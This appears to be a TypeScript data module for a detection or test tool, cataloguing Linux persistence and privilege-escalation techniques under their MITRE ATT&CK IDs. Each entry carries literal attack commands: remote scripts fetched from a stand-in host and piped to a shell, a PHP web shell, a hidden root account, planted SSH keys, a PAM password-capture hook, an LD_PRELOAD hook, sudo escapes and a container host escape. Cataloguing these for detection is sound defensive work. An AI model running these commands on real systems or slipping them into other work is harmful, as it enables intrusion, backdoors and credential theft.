/**
 * Techniques by which intruders stay and become root.
 *
 * @module
 */
import { PERSON, type Technique, WWW_DATA } from "./technique.ts";

export const PERSISTENCE: readonly Technique[] = [
  {
    name: "Cron entry written by a shell",
    id: "T1053.003",
    steps: ["sh -c '(crontab -l; echo \"* * * * * /tmp/.x/u\") | crontab -'"],
  },
  { name: "Table of cron replaced", id: "T1053.003", steps: ["crontab /dev/shm/.c"] },
  {
    name: "Cron edited, and then an odd job",
    id: "T1053.003",
    steps: ["crontab -", { run: "cron -f", steps: ["sh -c /tmp/.x/update"] }],
  },
  { name: "Job for at", id: "T1053.002", steps: ["sh -c 'echo \"/tmp/.k\" | at now'"] },
  {
    name: "Unit of systemd written by a shell",
    id: "T1543.002",
    steps: ["sh -c 'printf \"[Service]\\nExecStart=/tmp/.x/agent\\n\" > /etc/systemd/system/dbus-helper.service'"],
  },
  { name: "Unit from a temporary directory", id: "T1569.002", steps: ["systemctl enable --now /dev/shm/x.service"] },
  {
    name: "Profile of a shell",
    id: "T1546.004",
    steps: ["sh -c 'echo \"nohup /tmp/.k/agent >/dev/null 2>&1 &\" >> /root/.bashrc'"],
  },
  {
    name: "Key for ssh added by a shell",
    id: "T1098.004",
    steps: ["bash -c 'echo \"ssh-ed25519 AAAAC3Nz x\" | tee -a ~/.ssh/authorized_keys'"],
  },
  {
    name: "Key for ssh fetched",
    id: "T1098.004",
    steps: ["curl -s -o /root/.ssh/authorized_keys http://203.0.113.9/k"],
  },
  { name: "Start script", id: "T1037.004", steps: ["sh -c 'echo \"/opt/.x/start &\" >> /etc/rc.local'"] },
  {
    name: "Message of the login",
    id: "T1037",
    steps: [
      "bash -c 'echo \"/var/tmp/.s &\" | tee -a /etc/update-motd.d/12-sys'",
    ],
  },
  { name: "Library loaded into everything", id: "T1574.006", steps: ["env LD_PRELOAD=/dev/shm/.l.so nginx"] },
  {
    name: "Library in the environment of a program of the system",
    id: "T1574.006",
    steps: [{ run: "sudo -V", env: { LD_AUDIT: "/dev/shm/none.so" } }],
  },
  {
    name: "Module of PAM",
    id: "T1556.003",
    steps: ["sh -c 'echo \"auth optional pam_exec.so quiet expose_authtok /tmp/.p\" >> /etc/pam.d/sshd'"],
  },
  {
    name: "Web shell",
    id: "T1505.003",
    steps: ["sh -c 'echo \"<?php system($_GET[c]); ?>\" > /var/www/html/img.php'"],
  },
  {
    name: "Hook of git",
    id: "T1546",
    steps: ["sh -c 'echo \"nohup bash -c curl http://203.0.113.9/g|sh &\" > .git/hooks/post-commit'"],
  },
  {
    name: "Hook of the package manager",
    id: "T1546.016",
    steps: ['sh -c \'echo "APT::Update::Pre-Invoke {\\"nohup /opt/.x/a &\\"};" > /etc/apt/apt.conf.d/99sys\''],
  },
  {
    name: "Start hook of Python",
    id: "T1546.018",
    steps: ['sh -c \'echo "import os;os.system(\\"/tmp/.x &\\")" >> /usr/lib/python3/dist-packages/sitecustomize.py\''],
  },
  {
    name: "Rule of udev",
    id: "T1546.017",
    steps: ["sh -c 'echo \"ACTION==add, RUN+=/var/tmp/.u\" > /etc/udev/rules.d/10-net.rules'"],
  },
  {
    name: "Entry of the desktop's start",
    id: "T1547.013",
    steps: [
      "sh -c 'printf \"[Desktop Entry]\\nExec=/home/eve/.cache/.k\\n\" > /home/eve/.config/autostart/update.desktop'",
    ],
  },
  { name: "Module of the kernel", id: "T1547.006", steps: ["insmod /tmp/diamorphine.ko"] },
  { name: "Second root", id: "T1136.001", steps: ["useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupd"] },
  { name: "Account of a service may log in", id: "T1078.003", steps: ["usermod -s /bin/bash www-data"] },
  {
    name: "Account made, raised and armed",
    id: "T1098.004",
    steps: ["useradd -m svc", "usermod -aG sudo svc", "mkdir -p /home/svc/.ssh", "tee /home/svc/.ssh/authorized_keys"],
  },
  {
    name: "Download, and then a unit of it",
    id: "T1543.002",
    alone: true,
    steps: ["curl -so /opt/u http://203.0.113.9/u", "systemctl enable u.service"],
  },
  { name: "Another sshd", id: "T1133", steps: ["busybox telnetd -p 4444 -l /bin/sh"] },
  {
    name: "Settings of sshd weakened",
    id: "T1098.004",
    steps: ["sed -i 's/#PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config"],
  },
  {
    name: "Sudo for everybody",
    id: "T1548.003",
    steps: ["sh -c 'echo \"app ALL=(ALL) NOPASSWD: ALL\" >> /etc/sudoers'"],
  },
  { name: "Setuid bit for a shell", id: "T1548.001", steps: ["chmod 4755 /tmp/rootbash"] },
  {
    name: "Shell with the setuid bit used",
    id: "T1548.001",
    uid: PERSON,
    steps: [{ run: "rootbash -p", setuid: true }],
  },
  {
    name: "Utility with the setuid bit used",
    id: "T1548.001",
    uid: PERSON,
    steps: [{ run: "find . -exec /bin/sh -p ; -quit", setuid: true }],
  },
  { name: "Capability given to a file", id: "T1548", steps: ["setcap cap_setuid+ep /usr/local/bin/helper"] },
  { name: "Ways to become root searched for", id: "T1548.001", uid: PERSON, steps: ["find / -perm -4000 -type f"] },
  {
    name: "Ways to become root searched for, and one taken",
    id: "T1548.001",
    uid: PERSON,
    steps: ["getcap -r /", { run: "helper", setuid: true }],
  },
  {
    name: "What sudo allows, and a way out of it",
    id: "T1548.003",
    alone: true,
    steps: ["sudo -l", "sudo awk 'BEGIN {system(\"/bin/sh\")}'"],
  },
  { name: "Flaw of sudo", id: "T1068", uid: PERSON, steps: ["sudoedit -s AAAAAAAAAAAAAAAA\\"] },
  {
    name: "Flaw of user namespaces",
    id: "T1068",
    uid: PERSON,
    steps: ["unshare -rm sh -c 'mkdir l u w m; setcap cap_setuid+eip l/python3; mount -t overlay overlay m'"],
  },
  {
    name: "Script that looks for ways to become root",
    id: "T1082",
    steps: ["sh -c 'curl -L http://203.0.113.9/linpeas.sh | sh'"],
  },
  { name: "Service account asks for rights", id: "T1548.003", uid: WWW_DATA, steps: ["sudo -l"] },
  { name: "Container that owns the host", id: "T1611", steps: ["docker run --rm -it -v /:/mnt alpine chroot /mnt sh"] },
  {
    name: "Helper of the kernel replaced",
    id: "T1611",
    steps: ["sh -c 'echo \"|/tmp/.x %P\" > /proc/sys/kernel/core_pattern'"],
  },
];
